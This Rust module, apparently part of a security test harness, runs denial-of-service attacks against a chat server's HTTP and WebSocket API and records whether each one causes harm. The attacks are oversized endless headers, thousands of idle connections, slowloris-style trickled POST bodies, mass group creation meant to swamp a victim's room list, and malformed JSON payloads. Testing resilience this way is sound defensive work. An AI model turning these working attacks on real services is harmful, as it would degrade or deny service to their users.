//! Attacks on the HTTP API.

use std::time::Duration;

use anyhow::{Result, ensure};
use hyper::Method;
use serde_json::{Value, json};
use tokio::time::Instant;

use super::super::raw::Raw;
use super::{FROM, HARM, Target, crowd};
use crate::http;
use crate::token::token;

const CUT_OFF: &str = "cut off";

pub(super) async fn endless_headers(target: &Target, span: Duration) -> Result<String> {
    let until = Instant::now() + span;
    let line = format!("X-Long: {}", "x".repeat(400 << 10));
    let outcome = crowd(1_300, |_| {
        let (target, line) = (target.clone(), line.clone());
        async move {
            let mut raw = Raw::connect(FROM, &target.http, &target.spent).await?;
            let written = async {
                raw.write(b"GET /v1/me HTTP/1.1\r\nHost: a\r\n").await?;
                raw.write(line.as_bytes()).await
            };
            if written.await.is_err() {
                return Ok(CUT_OFF);
            }
            tokio::time::sleep_until(until).await;
            Ok(if raw.is_closed() { CUT_OFF } else { "still held" })
        }
    });
    Ok(outcome.await)
}

pub(super) async fn idle(target: &Target, span: Duration) -> Result<String> {
    let until = Instant::now() + span;
    let outcome = crowd(4_200, |_| {
        let target = target.clone();
        async move {
            let mut raw = Raw::connect(FROM, &target.http, &target.spent).await?;
            tokio::time::sleep_until(until).await;
            Ok(if raw.is_closed() { CUT_OFF } else { "still held" })
        }
    });
    Ok(outcome.await)
}

pub(super) async fn slow_bodies(target: &Target, span: Duration) -> Result<String> {
    let until = Instant::now() + span;
    let outcome = crowd(1_100, |_| {
        let target = target.clone();
        async move {
            let mut raw = Raw::connect(FROM, &target.http, &target.spent).await?;
            raw.write(b"POST /goim/push/all?operation=1 HTTP/1.1\r\nHost: a\r\nContent-Length: 1000\r\n\r\n").await?;
            while Instant::now() < until {
                if raw.is_closed() || raw.write(b"x").await.is_err() {
                    return Ok(CUT_OFF);
                }
                tokio::time::sleep(Duration::from_secs(1)).await;
            }
            Ok("still held")
        }
    });
    Ok(outcome.await)
}

pub(super) async fn group_bombs(target: &Target, span: Duration) -> Result<String> {
    let (mallory, ann, victim) = (token("mallory", "", &[])?, token("ann", "", &[])?, token("victim", "", &[])?);
    let direct = "direct:3:ann:victim";
    let hello = json!({"body": "hello"}).to_string();
    let path = format!("/v1/rooms/{}/messages", direct.replace(':', "%3A"));
    let (status, text) = http::call(Method::POST, &target.http, &path, Some(&ann), hello.into()).await?;
    ensure!(status == 201, "{status} {text}");

    let until = Instant::now() + span;
    let made = crowd(8, |number| {
        let (target, mallory) = (target.clone(), mallory.clone());
        async move {
            let mut made = 0;
            while Instant::now() < until {
                let id = format!("!{number}-{made:06}-{}", "x".repeat(200));
                let named = json!({"kind": "group", "id": id, "members": ["victim"]}).to_string();
                let (status, _) =
                    http::call(Method::POST, &target.http, "/v1/rooms", Some(&mallory), named.into()).await?;
                if status == 201 {
                    made += 1;
                    continue;
                }
                let unnamed = json!({"kind": "group", "members": ["victim"]}).to_string();
                let (status, _) =
                    http::call(Method::POST, &target.http, "/v1/rooms", Some(&mallory), unnamed.into()).await?;
                match status {
                    201 => made += 1,
                    // Nothing is to be gained by asking faster than the limit on requests.
                    _ => tokio::time::sleep(Duration::from_millis(20)).await,
                }
            }
            Ok(if made > 0 { "made groups" } else { "made none" })
        }
    });
    let made = made.await;
    let mut raw = Raw::websocket(FROM, &target.ws, &target.spent).await?;
    raw.say(&json!({"op": "auth", "req": 1, "token": victim, "all": true})).await?;
    let heard = async {
        loop {
            let answer = raw.hear("subscribed").await?;
            let rooms = answer["rooms"].as_array().cloned().unwrap_or_default();
            let own = rooms.iter().find(|room| room["room"] == direct);
            if let Some(own) = own {
                return anyhow::Ok((rooms.len(), own["error"] == Value::Null));
            }
        }
    };
    let (listed, hears) = tokio::time::timeout(Duration::from_secs(20), heard).await.unwrap_or(Ok((0, false)))?;
    let harm = if hears { "" } else { HARM };
    Ok(format!("{harm} {made}; the victim's list has {listed} rooms and its own direct room is heard: {hears}"))
}

pub(super) async fn bad_json(target: &Target, span: Duration) -> Result<String> {
    let (mallory, victim) = (token("mallory", "", &[])?, token("victim", "", &[])?);
    let room = "direct:7:mallory:victim";
    let until = Instant::now() + span;
    let mut raw = Raw::native(FROM, &target.ws, &mallory, &target.spent).await?;
    raw.say(&json!({"op": "send", "req": 2, "room": room, "body": "hello"})).await?;
    raw.hear("ack").await?;
    let deep = format!("{}{}", "[".repeat(200), "]".repeat(200));
    let (mut asked, mut failed) = (0, 0);
    for body in ["1e999", deep.as_str(), r#"{"a":"\ud800"}"#].iter().cycle() {
        // As text, because no JSON library writes it.
        let request = format!(r#"{{"op":"send","req":3,"room":"{room}","body":{body}}}"#);
        raw.frame(1, request.as_bytes()).await?;
        if raw.is_closed() {
            raw = Raw::native(FROM, &target.ws, &mallory, &target.spent).await?;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
        let (status, _) =
            http::call(Method::GET, &target.http, "/v1/conversations", Some(&victim), Default::default()).await?;
        asked += 1;
        failed += u32::from(status != 200);
        if Instant::now() > until {
            break;
        }
    }
    let harm = if failed > 0 { format!("{HARM}: ") } else { String::new() };
    Ok(format!("{harm}{failed} of {asked} lists of conversations failed"))
}
